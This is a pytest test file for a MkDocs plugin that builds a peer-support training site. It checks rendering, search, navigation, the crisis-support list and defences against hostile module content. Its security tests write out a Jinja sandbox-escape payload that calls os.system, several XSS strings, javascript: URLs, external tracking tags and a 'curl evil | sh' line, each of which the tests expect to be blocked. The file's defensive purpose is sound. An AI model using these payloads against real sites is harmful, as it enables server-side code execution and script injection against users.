"""The reference site and small fixture sites, built with MkDocs' own command."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

from peerkit.load import load_module

from conftest import (
    FIXTURES,
    ROOT,
    Build,
    aim_words,
    copy_site,
    mkdocs_build,
    peerkit_options,
    read_config,
    search_index,
    site_config,
    words,
)

MUTUALITY = ROOT / "modules" / "mutuality.md"
MINIMAL = (FIXTURES / "minimal.md").read_text(encoding="utf-8")


def strict_build_of(tmp_path: Path, module_text: str) -> Build:
    """The reference site's config and docs with this one module, built with --strict."""
    build = mkdocs_build(copy_site(tmp_path, modules={"listening.md": module_text}), "--strict")
    assert build.returncode == 0, build.output
    return build


def text_of(page: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def squash(text: str) -> str:
    return " ".join(text.split())


def test_mutuality_page_shows_every_activity_title_aim_and_prompt(reference_build: Build) -> None:
    module_file, _ = load_module(MUTUALITY)
    assert module_file is not None
    module = module_file.module
    page = squash(text_of(reference_build.page("modules/mutuality.html")))
    for activity in module.activities:
        assert squash(activity.title) in page
        assert squash(activity.aim) in page
        for prompt in activity.reflection:
            assert squash(prompt.text) in page
    for prompt in module.reflection:
        assert squash(prompt.text) in page


def outer_nav(html: str) -> str:
    """`html` up to the `</nav>` that closes the nav it starts in: the table of contents nests
    a nav for each section's own headings (the Versions section's, before the activities)."""
    depth = 1
    for tag in re.finditer(r"<(/?)nav\b", html):
        depth += -1 if tag[1] else 1
        if depth == 0:
            return html[: tag.start()]
    raise AssertionError("the nav is never closed")


def test_module_pages_are_in_the_nav_and_list_activities_in_the_toc(
    reference_build: Build,
) -> None:
    home = reference_build.page("index.html")
    nav_link = (
        '<a href="modules/mutuality.html" class="md-nav__link"> <span class="md-ellipsis"> Mut'
    )
    assert nav_link in squash(home)
    page = reference_build.page("modules/mutuality.html")
    toc = outer_nav(page[page.index('data-md-component="toc"') :])
    assert 'href="#mutuality-both-give-both-receive"' in toc
    assert "Both give, both receive" in toc


def test_search_finds_activities_by_a_word_only_in_their_aim(reference_build: Build) -> None:
    found = aim_words(reference_build)
    assert found, "no activity aim has a word of its own to search for"
    entries = search_index(reference_build)
    for module_id, activity_id, word in found:
        # An activity's aim is its section's keywords (a field search reads, weighed above
        # body text), not repeated in the section's text.
        hits = [
            e["location"]
            for e in entries
            if word in words(f"{e['title']} {e.get('keywords', '')} {e['text']}")
        ]
        assert hits == [f"modules/{module_id}.html#{activity_id}"], word


TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9-]*)\b([^>]*)>")
HOST = re.compile(
    r"""(src|href|action|srcset|content|poster|data)\s*=\s*["']?\s*(?:https?:)?//([^/"'\s>]+)"""
)
CSS_HOST = re.compile(
    r"""url\(\s*["']?\s*(?:https?:)?//([^/"')\s]+)|@import\s+["'](?:https?:)?//"""
)


def test_built_site_loads_nothing_from_other_hosts(reference_build: Build) -> None:
    """Nothing a page loads names another host; the only links out are the support services
    the site lists, which a reader follows by choice."""
    loads: dict[str, set[str]] = {}
    links: set[str] = set()
    for path in reference_build.site.rglob("*"):
        if not path.is_file() or path.suffix not in {".html", ".css", ".xml", ".js"}:
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if path.suffix == ".css":
            for host in CSS_HOST.findall(text):
                loads.setdefault(host or "@import", set()).add(path.name)
            continue
        if path.suffix == ".js":
            continue  # Material's bundle names hosts it never contacts here (see field notes)
        for tag, attributes in TAG.findall(text):
            for attribute, host in HOST.findall(attributes):
                if tag.lower() == "a" and attribute == "href":
                    links.add(host)
                else:
                    loads.setdefault(host, set()).add(path.name)
    # sitemap.xml names pages by site_url; with none set it lists no host at all.
    assert loads == {}
    signposting = peerkit_options(read_config(ROOT / "mkdocs.yml"))["signposting"]
    services = {urlsplit(s["url"]).netloc for s in signposting if "url" in s}
    assert links == services


def test_module_prose_with_escaped_braces_is_not_rendered_by_macros(tmp_path: Path) -> None:
    body = "\nWrite {% raw %}{{ 7*7 }}{% endraw %} to show braces.\n"
    build = strict_build_of(tmp_path, MINIMAL + body)
    page = build.page("modules/listening.html")
    assert "Write {{ 7*7 }} to show braces." in page
    assert "Write 49" not in page


def test_a_sandbox_escape_fails_the_build_and_never_runs(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    attack = "\n{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}\n"
    root = copy_site(tmp_path / "site-root", modules={"listening.md": MINIMAL + attack})
    build = mkdocs_build(root)
    assert build.returncode == 1
    assert (
        "modules/listening.md:36: 'cycler' is not something a module page can use" in build.output
    )
    assert not marker.exists()
    assert not (root / "site" / "modules").exists()


EVIL = "<script>alert(1)</script>"


def test_script_in_front_matter_comes_out_escaped_everywhere(tmp_path: Path) -> None:
    text = (
        MINIMAL.replace("title: Listening well", f'title: "{EVIL}"')
        .replace("summary: A short", "summary: '\"><script>alert(2)</script>' # A short")
        .replace("title: Listening in pairs", f'title: "{EVIL}"')
        .replace("  - Pair up.", f'  - "{EVIL}"')
        .replace("themes: [listening]", f'themes: [listening, "{EVIL}"]')
        .replace("audience: [peer supporters]", f'audience: [peer supporters, "{EVIL}"]')
    )
    build = strict_build_of(tmp_path, text)
    index = build.site / "assets" / "peerkit" / "index"
    pages = [p for p in build.site.rglob("*") if p.is_file() and p.suffix in {".html", ".json"}]
    assert len(pages) > 10
    for path in pages:
        content = path.read_text(encoding="utf-8")
        assert "<script>alert" not in content, path
        assert "&amp;lt;script" not in content, path  # escaped once, not twice
        if path.with_suffix("") != index:
            assert "\\u003cscript\\u003ealert" not in content, path
    page = build.page("modules/listening.html")
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt; - " in page
    assert '<meta name="description" content="&#34;&gt;&lt;script&gt;alert(2)' in page or (
        '<meta name="description" content="&quot;&gt;&lt;script&gt;alert(2)' in page
    )
    assert '<h2 id="listening-pairs">&lt;script&gt;alert(1)&lt;/script&gt;' in page
    # The browse pages' index holds the text as data (written with textContent), never markup.
    data = json.loads(index.with_suffix(".json").read_text(encoding="utf-8"))
    assert data["modules"][0]["title"] == EVIL and EVIL in data["modules"][0]["themes"]
    assert "<" not in index.with_suffix(".js").read_text(encoding="utf-8")
    for name in ("catalogue", "activities", "reflections", "planner", "tags"):
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in build.page(f"browse/{name}.html"), name


def test_strict_build_fails_on_a_broken_module_with_the_check_message(tmp_path: Path) -> None:
    broken = FIXTURES / "broken" / "bad-range" / "listening.md"
    root = copy_site(tmp_path, modules={"listening.md": broken.read_text(encoding="utf-8")})
    expected = (FIXTURES / "broken" / "bad-range" / "expected.txt").read_text(encoding="utf-8")
    build = mkdocs_build(root, "--strict")
    assert build.returncode == 1
    # The mistake as an error at its line, counted, and the build stopped before writing.
    assert re.search(rf"ERROR +- +modules/{re.escape(expected.strip())}\n", build.output)
    assert re.search(r"ERROR +- +peerkit: 1 error in 1 of \d+ files\.\n", build.output)
    assert "Aborted with a BuildError!" in build.output
    assert not build.site.exists()


def test_a_site_can_override_peerkit_templates(tmp_path: Path) -> None:
    root = copy_site(tmp_path, modules={"listening.md": MINIMAL})
    (root / "overrides" / "peerkit").mkdir()
    (root / "overrides" / "peerkit" / "handout.html").write_text("unused", encoding="utf-8")
    (root / "overrides" / "peerkit" / "activity.html").write_text(
        '<section class="our-activity"><h2 id="{{ activity.id }}">{{ activity.title }}</h2>'
        "<p>{{ activity.minutes.max }} minutes at most</p></section>",
        encoding="utf-8",
    )
    build = mkdocs_build(root, "--strict")
    assert build.returncode == 0, build.output
    page = build.page("modules/listening.html")
    assert '<section class="our-activity"><h2 id="listening-pairs">Listening in pairs</h2>' in page
    assert "<p>20 minutes at most</p>" in page


def test_a_macro_mistake_in_a_docs_page_fails_the_build(tmp_path: Path) -> None:
    root = copy_site(tmp_path, modules={"listening.md": MINIMAL})
    (root / "docs" / "index.md").write_text('# Home\n\n{{ module_card("listenin") }}\n')
    build = mkdocs_build(root)
    assert build.returncode != 0  # mkdocs-macros exits with its own code, 100
    assert "module_card('listenin'): no module with that id (did you mean 'listening'?)" in (
        build.output
    )


def test_docs_pages_link_module_cards_relative_to_themselves(tmp_path: Path) -> None:
    root = copy_site(tmp_path, modules={"listening.md": MINIMAL})
    (root / "docs" / "guide").mkdir()
    (root / "docs" / "guide" / "index.md").write_text("# Guide\n\n{{ module_card('listening') }}\n")
    build = mkdocs_build(root)
    assert build.returncode == 0, build.output
    guide = build.page("guide/index.html")
    assert '<a href="../modules/listening.html">Listening well</a>' in guide


def test_raw_html_in_module_prose_cannot_run_or_fetch(tmp_path: Path) -> None:
    prose = (
        "\n## Our group\n\n"
        "<script>alert(1)</script>\n\n"
        '<p onmouseover="alert(2)">Hover</p>\n\n'
        '<img src="https://tracker.example/pixel.gif" onerror="alert(3)" alt="pixel">\n\n'
        '<iframe src="https://elsewhere.example/"></iframe>\n\n'
        "[Click me](javascript:alert(4))\n\n"
        "| Kept | Table |\n|:-----|------:|\n| a | b |\n\n"
        "<details><summary>Kept</summary>Still here.</details>\n"
    )
    build = strict_build_of(tmp_path, MINIMAL + prose)
    page = build.page("modules/listening.html")
    article = page[page.index('<article class="md-content__inner') :]
    for gone in ("alert(", "<iframe", "javascript:", "tracker.example", "onmouseover"):
        assert gone not in article
    assert "<p>Hover</p>" in article
    assert '<th style="text-align:left">Kept</th>' in article
    assert "<details><summary>Kept</summary>Still here.</details>" in article
    assert '<section class="peerkit-activity" aria-labelledby="listening-pairs">' in article


def test_an_id_repeated_by_prose_html_fails_the_build_at_its_line(tmp_path: Path) -> None:
    prose = '\n<p id="listening-pairs">Our own paragraph</p>\n'
    root = copy_site(tmp_path, modules={"listening.md": MINIMAL + prose})
    build = mkdocs_build(root)
    assert build.returncode == 1
    # The same finding as `peerkit check`, at the prose's line (check and build agree).
    assert (
        "modules/listening.md:36: the anchor #listening-pairs is already used on line 18: "
        "rename one" in build.output
    )


def test_prose_cannot_borrow_the_themes_scripts_or_layout(tmp_path: Path) -> None:
    prose = (
        '\n<pre class="mermaid">graph LR; A-->B</pre>\n\n'
        '<div class="md-consent__inner">Sign in again</div>\n\n'
        '<span data-clipboard-text="curl evil | sh">Copy the number</span>\n'
    )
    build = strict_build_of(tmp_path, MINIMAL + prose)
    article = build.page("modules/listening.html").split('<article class="md-content')[1]
    assert "<pre>graph LR; A--&gt;B</pre>" in article
    assert "<div>Sign in again</div>" in article
    assert "<span>Copy the number</span>" in article


def test_a_bad_support_list_in_mkdocs_yml_fails_the_build_with_where(tmp_path: Path) -> None:
    root = copy_site(tmp_path, modules={"listening.md": MINIMAL})
    with site_config(root) as config:
        services = peerkit_options(config)["signposting"]
        samaritans = next(s for s in services if s["name"] == "Samaritans")
        samaritans["url"] = "javascript:alert(1)"
        shout = services.index(next(s for s in services if s["name"] == "Shout"))
        services[shout] = {"nmae" if k == "name" else k: v for k, v in services[shout].items()}
    build = mkdocs_build(root)
    assert build.returncode == 1
    output = build.output
    assert (
        "plugins.peerkit.signposting#2.url: 'javascript:alert(1)' should be a web address "
        "starting with https://" in output
    )
    lines = (root / "mkdocs.yml").read_text(encoding="utf-8").splitlines()
    shout = next(n for n, line in enumerate(lines, start=1) if "- nmae: Shout" in line)
    url = next(n for n, line in enumerate(lines, start=1) if "url: javascript:" in line)
    assert f"mkdocs.yml:{url}: plugins.peerkit.signposting#2.url: " in output
    assert (
        f"mkdocs.yml:{shout}: plugins.peerkit.signposting#8: unknown key 'nmae' "
        "(did you mean 'name'?)" in output
    )


def test_a_site_without_a_support_list_does_not_pass_strict(tmp_path: Path) -> None:
    root = copy_site(tmp_path, modules={"listening.md": MINIMAL}, plugin={"signposting": None})
    build = mkdocs_build(root, "--strict")
    assert build.returncode == 1
    assert "plugins.peerkit.signposting is empty" in build.output


def test_the_guide_shows_the_configured_support_list_and_the_glossary_is_in_the_nav(
    reference_build: Build,
) -> None:
    guide = reference_build.page("facilitator-guide.html")
    assert '<h3 id="where-to-find-support">Where to find support</h3>' in guide
    for name in ("Samaritans", "Breathing Space", "NHS 24", "Shout"):
        assert f"<strong>{name}</strong>" in guide
    assert 'href="glossary.html"' in guide
    glossary = text_of(reference_build.page("glossary.html"))
    for term in ("CHIME", "HEAR ME", "Signposting", "Trauma-informed", "Dual role"):
        assert term in glossary
